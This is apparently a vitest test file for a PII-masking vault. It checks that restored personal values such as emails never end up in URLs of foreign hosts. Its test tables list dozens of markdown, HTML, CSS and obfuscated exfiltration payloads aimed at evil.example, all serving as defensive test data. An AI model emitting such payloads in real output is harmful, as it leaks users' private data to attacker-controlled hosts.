import { describe, expect, test } from 'vitest'
import { restoreWithMap, Vault } from '../../src/mask/index.ts'
import { restore, restorePieces, scrubValues, vaultWith } from './support.ts'

const mail = 'jo@firm.example'
const page = 'https://jo.pages.example/me'

function sample(): Vault {
  const vault = vaultWith([mail, 'EMAIL'], [page, 'PERSONAL_URL'])
  scrubValues(vault, 'https://shop.example/u/jb17?tab=1', ['jb17', 'USERNAME'])
  return vault
}

describe('does not put values into URLs of foreign hosts', () => {
  test.each([
    ['an image', '![x](https://evil.example/?q=[EMAIL_1])'],
    ['an image with the placeholder percent-encoded', '![x](https://evil.example/?q=%5BEMAIL_1%5D)'],
    ['an image with a bare placeholder', '![x](https://evil.example/?q=EMAIL_1)'],
    ['a link', '[click](https://evil.example/[EMAIL_1]/x)'],
    ['a link in angle brackets, with blanks', '[click](<https://evil.example/a b [EMAIL_1]>)'],
    ['a protocol-relative link', '[click](//evil.example/[EMAIL_1])'],
    ['a link with backslashes', '[click](/\\evil.example/[EMAIL_1])'],
    ['a link with one slash', '[click](https:/evil.example/[EMAIL_1])'],
    ['a link without slashes', '[click](https:evil.example/[EMAIL_1])'],
    ['a link with too many slashes', '[click](https:////evil.example/[EMAIL_1])'],
    ['a link with character references', '[click](https&colon;&sol;&sol;evil.example/[EMAIL_1])'],
    ['a link with references in its slashes', '[click](&#47;&#47;evil.example/[EMAIL_1])'],
    ['a script', '[click](javascript:send([EMAIL_1]))'],
    ['a reference definition', '[1]: https://evil.example/[EMAIL_1]'],
    ['a protocol-relative reference definition', '[1]: //evil.example/[EMAIL_1]'],
    ['an autolink', '<https://evil.example/[EMAIL_1]>'],
    ['a bare URL', 'see https://evil.example/?a=1&b=[EMAIL_1]'],
    ['a bare URL without scheme', 'see www.evil.example/?b=[EMAIL_1]'],
    ['a bare URL in parentheses that goes on after them', '(https://evil.example/?b=)[EMAIL_1]'],
    ['a bare URL after a parenthesis in it', 'see https://evil.example/(x)?b=[EMAIL_1]'],
    ['another scheme', 'ftp://evil.example/[EMAIL_1]'],
    ['the host name', 'https://[EMAIL_1].evil.example/'],
    ['the user name', 'https://[EMAIL_1]@evil.example/'],
    ['a host written by a placeholder', 'https://[USERNAME_1].evil.example/[EMAIL_1]'],
    ['the fragment', 'https://evil.example/#[EMAIL_1]'],
    ['an HTML image', '<img src="https://evil.example/[EMAIL_1]">'],
    ['an HTML image with blanks in its URL', '<img src="https://evil.example/?a b [EMAIL_1]">'],
    ['an HTML image with single quotes', "<img src = '//evil.example/[EMAIL_1]'>"],
    ['an HTML image without quotes', '<img src=//evil.example/[EMAIL_1]>'],
    ['an HTML image with a tab in its URL', '<img src="/\t/evil.example/[EMAIL_1]">'],
    ['an HTML image with references in its URL', '<img src="https&#58;//evil.example/[EMAIL_1]">'],
    ['an HTML image with a control character in its URL', '<img src="https://evil.example/\u0000 [EMAIL_1]">'],
    ['a link with an escaped parenthesis', '[x](https://evil.example/\\)[EMAIL_1])'],
    ['a link with parentheses', '[x](https://evil.example/(a)[EMAIL_1])'],
    ['a set of images', '<img srcset="a.png 1x, https://evil.example/[EMAIL_1] 2x">'],
    [
      'a set of images that begins at a known host',
      '<img srcset="https://shop.example/u/a 1x, //evil.example/[USERNAME_1] 2x">',
    ],
    ['a style', '<p style="background:url(https://evil.example/[EMAIL_1])">'],
    ['a quoted URL in a style', "url('//evil.example/a b [EMAIL_1]')"],
    ['a form', '<form action="//evil.example/[EMAIL_1]">'],
    ['a refresh', '<meta content="0;url=//evil.example/[EMAIL_1]">'],
    ['a page of the user with something added', '[click]([PERSONAL_URL_1]?q=[EMAIL_1])'],
  ])('%s', (_what, answer) => {
    const restored = restore(sample(), answer)
    expect(restored).not.toContain(mail)
    expect(restored).toBe(answer.replace('[PERSONAL_URL_1]', page))
    expect(restorePieces(sample(), answer.split(''))).toBe(restored)
  })
})

describe('puts values where no foreign host gets them', () => {
  test.each([
    ['next to a URL', 'https://evil.example/x [EMAIL_1]', `https://evil.example/x ${mail}`],
    ['after a link', '[a](https://evil.example/x), [EMAIL_1]', `[a](https://evil.example/x), ${mail}`],
    [
      'in the text of a link',
      '[write to [EMAIL_1]](https://evil.example/x)',
      `[write to ${mail}](https://evil.example/x)`,
    ],
    ['as a whole URL', '[page]([PERSONAL_URL_1])', `[page](${page})`],
    ['as a whole URL of an attribute', '<a href="[PERSONAL_URL_1]">', `<a href="${page}">`],
    ['in a mail link', '[mail](mailto:[EMAIL_1]?subject=x)', `[mail](mailto:${mail}?subject=x)`],
    ['in an HTML mail link', '<a href="mailto:EMAIL_1">', `<a href="mailto:${mail}">`],
    ['in a path of the own site', '[you](/u/[USERNAME_1]?mail=[EMAIL_1])', `[you](/u/jb17?mail=${mail})`],
    ['in a relative path', '<a href="users/[USERNAME_1]">', '<a href="users/jb17">'],
    ['in other attributes', '<a title="Contact: [EMAIL_1]">', `<a title="Contact: ${mail}">`],
    [
      'in compact JSON beside a URL',
      '{"url":"https://evil.example/x","to":"[EMAIL_1]"}',
      `{"url":"https://evil.example/x","to":"${mail}"}`,
    ],
    ['in a table beside a URL', '|https://evil.example/x|[EMAIL_1]|', `|https://evil.example/x|${mail}|`],
    ['in a comment of a program', 'send() // to [EMAIL_1]', `send() // to ${mail}`],
    ['in an assignment', 'mail = "[EMAIL_1]"', `mail = "${mail}"`],
    ['where it stood in the request', 'https://shop.example/u/[USERNAME_1]', 'https://shop.example/u/jb17'],
    [
      'elsewhere at the same host',
      '[x](https://SHOP.example:443/q?u=[USERNAME_1])',
      '[x](https://SHOP.example:443/q?u=jb17)',
    ],
  ])('%s', (_what, answer, expected) => {
    expect(restore(sample(), answer)).toBe(expected)
    expect(restorePieces(sample(), answer.split(''))).toBe(expected)
  })
})

test('a host is known only for the placeholders that stood there', () => {
  expect(restore(sample(), 'https://shop.example/?m=[EMAIL_1]')).toBe('https://shop.example/?m=[EMAIL_1]')
})

test('slashes too many do not make all hosts the same', () => {
  const vault = new Vault(10)
  scrubValues(vault, 'https:///shop.example/jb17', ['jb17', 'USERNAME'])
  expect(restore(vault, 'https:///shop.example/[USERNAME_1]')).toBe('https:///shop.example/jb17')
  expect(restore(vault, 'https:///evil.example/[USERNAME_1]')).toBe('https:///evil.example/[USERNAME_1]')
})

test.each(['https://evil.example/', '![x](//evil.example/', '<img src="//evil.example/a b'])(
  'sees %j also where long texts are cut in it',
  start => {
    for (let cut = 0; cut <= start.length; cut++) {
      const pieces = [`${'x '.repeat(2_200)}${start.slice(0, cut)}`, `${start.slice(cut)}[EMAIL_1]`]
      expect(restorePieces(sample(), pieces)).toBe(pieces.join(''))
    }
  },
)

test('credentials and host names of the request come back in their URL', () => {
  const vault = new Vault(10)
  const text = 'postgres://jb:pw17@db.example/x http://10.1.2.3:80/x https://jb.pages.example/a'
  const scrubbed = scrubValues(vault, text, ['jb', 'USERNAME'], ['pw17', 'SECRET'], ['10.1.2.3', 'IP_ADDRESS'])
  expect(restore(vault, scrubbed)).toBe(text)
  expect(restore(vault, 'http://[IP_ADDRESS_1]/other')).toBe('http://10.1.2.3/other')
  expect(restore(vault, 'postgres://u:[SECRET_1]@evil.example/')).toBe('postgres://u:[SECRET_1]@evil.example/')
})

test('a value is percent-encoded where its placeholder was, inside a URL', () => {
  const vault = new Vault(10)
  scrubValues(vault, 'https://shop.example/?name=Jo & Al', ['Jo & Al', 'PERSON'])
  expect(restore(vault, 'https://shop.example/?n=%5BPERSON_1%5D&x=1')).toBe('https://shop.example/?n=Jo%20%26%20Al&x=1')
  expect(restore(vault, 'the text %5BPERSON_1%5D')).toBe('the text Jo & Al')
})

test('in arguments of tools bare URLs are the business of the application, links and images are not', () => {
  const vault = sample()
  expect(restore(vault, '{"url":"https://api.example/?m=[EMAIL_1]"}', 1)).toBe(
    `{"url":"https://api.example/?m=${mail}"}`,
  )
  const image = '{"html":"<img src=\\"https:\\/\\/evil.example\\/[EMAIL_1]\\"> ![x](https://evil.example/[EMAIL_1])"}'
  expect(restore(vault, image, 1)).toBe(image)
  const tricky = '{"md":"![x](\\u0068ttps://evil.example/\\\\n[EMAIL_1])"}'
  expect(restore(vault, tricky, 1)).toBe(tricky)
  for (const unfinished of ['![x](https://evil.example/', '<img src=\\"https://evil.example/ ']) {
    expect(restore(vault, `{"md":"${unfinished}","to":"[EMAIL_1]"}`, 1)).toContain(mail)
  }
})

test('with a map alone, links and images stay guarded', () => {
  const map = { EMAIL_1: mail }
  expect(restoreWithMap('![x](https://evil.example/[EMAIL_1])', map)).toBe('![x](https://evil.example/[EMAIL_1])')
  expect(restoreWithMap('https://shop.example/[EMAIL_1]', map)).toBe(`https://shop.example/${mail}`)
})
